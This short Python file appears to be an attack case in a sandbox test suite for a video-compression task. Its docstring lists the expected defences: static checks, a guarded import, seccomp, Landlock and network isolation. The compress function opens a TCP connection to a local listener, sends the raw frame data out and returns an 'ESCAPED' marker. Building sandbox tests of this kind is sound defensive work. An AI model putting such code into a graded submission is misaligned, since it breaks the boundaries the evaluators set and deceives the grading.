"""Attack: connect over TCP to a listener the host test opens on 127.0.0.1 and send the
source frame there.

Expected: rejected statically (`socket`); at runtime the guarded import trips (violation);
seccomp kills socket(); Landlock refuses the TCP connect; the network namespace's
loopback is not the host's. The listener sees no connection.
"""
import socket

import numpy as np


def compress_video_frame(frame, frame_index, config):
    with socket.create_connection(("127.0.0.1", config["tcp_port"]), timeout=1) as connection:
        connection.sendall(frame.tobytes())
    return b"ESCAPED:sent the frame"


def decompress_video_frame(data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
